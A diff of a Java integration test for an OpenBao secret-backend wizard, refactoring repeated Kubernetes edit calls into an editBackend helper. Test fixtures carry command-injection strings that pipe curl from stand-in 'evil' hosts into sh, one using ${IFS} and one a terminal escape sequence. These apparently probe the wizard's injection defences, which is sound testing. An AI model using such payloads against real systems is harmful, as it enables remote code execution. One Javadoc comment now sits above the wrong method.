@@ -42,6 +42,7 @@ import java.util.Map;
 import java.util.Optional;
 import java.util.concurrent.CompletableFuture;
 import java.util.concurrent.TimeUnit;
+import java.util.function.Consumer;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeAll;
@@ -614,15 +615,11 @@ class OpenBaoWizardIT {
         Map.of("accessor", "a'; curl evil | sh; '"));
     String hostileRole = "x; curl -s https://evil/p | sh #\u001b]0;owned\u0007";
     tuneRotation("24h", "10m", "2m");
-    client
-        .resources(SecretBackend.class)
-        .inNamespace(fixture.namespace)
-        .withName("bao")
-        .edit(
-            backend -> {
-              backend.getSpec().getOpenbao().getAuth().getRotation().setTokenRole(hostileRole);
-              return backend;
-            });
+    editBackend(
+        "bao",
+        backend -> {
+          backend.getSpec().getOpenbao().getAuth().getRotation().setTokenRole(hostileRole);
+        });
 
     CliHarness.Result rerun = fixture.runWithRootToken(new CliHarness(), "bao");
 
@@ -716,15 +713,11 @@ class OpenBaoWizardIT {
     CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
     assertThat(first.exitCode()).as(first.toString()).isZero();
     String hostile = "mcpctl;curl${IFS}evil.example|sh";
-    client
-        .resources(SecretBackend.class)
-        .inNamespace(fixture.namespace)
-        .withName("bao")
-        .edit(
-            backend -> {
-              backend.getSpec().getOpenbao().getKv().setPathPrefix(hostile);
-              return backend;
-            });
+    editBackend(
+        "bao",
+        backend -> {
+          backend.getSpec().getOpenbao().getKv().setPathPrefix(hostile);
+        });
 
     CliHarness.Result rerun = fixture.runWithRootToken(new CliHarness(), "bao");
 
@@ -747,18 +740,14 @@ class OpenBaoWizardIT {
     CliHarness.Result second =
         fixture.runWithRootToken(new CliHarness(), "other", "--no-promote-default");
     assertThat(second.exitCode()).as(second.toString()).isZero();
-    client
-        .resources(SecretBackend.class)
-        .inNamespace(fixture.namespace)
-        .withName("other")
-        .edit(
-            backend -> {
-              ConsumersSpec consumers = new ConsumersSpec();
-              consumers.setRestart(ConsumersSpec.RESTART_ROLLOUT);
-              consumers.setMaxRevokeDelay("30m");
-              backend.getSpec().getOpenbao().getAuth().getRotation().setConsumers(consumers);
-              return backend;
-            });
+    editBackend(
+        "other",
+        backend -> {
+          ConsumersSpec consumers = new ConsumersSpec();
+          consumers.setRestart(ConsumersSpec.RESTART_ROLLOUT);
+          consumers.setMaxRevokeDelay("30m");
+          backend.getSpec().getOpenbao().getAuth().getRotation().setConsumers(consumers);
+        });
 
     CliHarness.Result rerun =
         fixture.runWithRootToken(new CliHarness(), "other", "--rotation-interval", "12h");
@@ -1284,18 +1273,14 @@ class OpenBaoWizardIT {
 
   /** Sets the backend's rotation timing as a person editing it by hand would. */
   private void tuneRotation(String interval, String jitter, String revokeGracePeriod) {
-    client
-        .resources(SecretBackend.class)
-        .inNamespace(fixture.namespace)
-        .withName("bao")
-        .edit(
-            backend -> {
-              RotationSpec rotation = backend.getSpec().getOpenbao().getAuth().getRotation();
-              rotation.setInterval(interval);
-              rotation.setJitter(jitter);
-              rotation.setRevokeGracePeriod(revokeGracePeriod);
-              return backend;
-            });
+    editBackend(
+        "bao",
+        backend -> {
+          RotationSpec rotation = backend.getSpec().getOpenbao().getAuth().getRotation();
+          rotation.setInterval(interval);
+          rotation.setJitter(jitter);
+          rotation.setRevokeGracePeriod(revokeGracePeriod);
+        });
   }
 
   /**
@@ -1349,6 +1334,18 @@ class OpenBaoWizardIT {
   }
 
   /** Live tokens minted through a token role, as the wizard mints them. */
+  private void editBackend(String name, Consumer<SecretBackend> change) {
+    client
+        .resources(SecretBackend.class)
+        .inNamespace(fixture.namespace)
+        .withName(name)
+        .edit(
+            backend -> {
+              change.accept(backend);
+              return backend;
+            });
+  }
+
   private List<TokenSnapshot> mintedTokens() {
     return fixture.bao.liveTokens().stream().filter(token -> token.role().isPresent()).toList();
   }
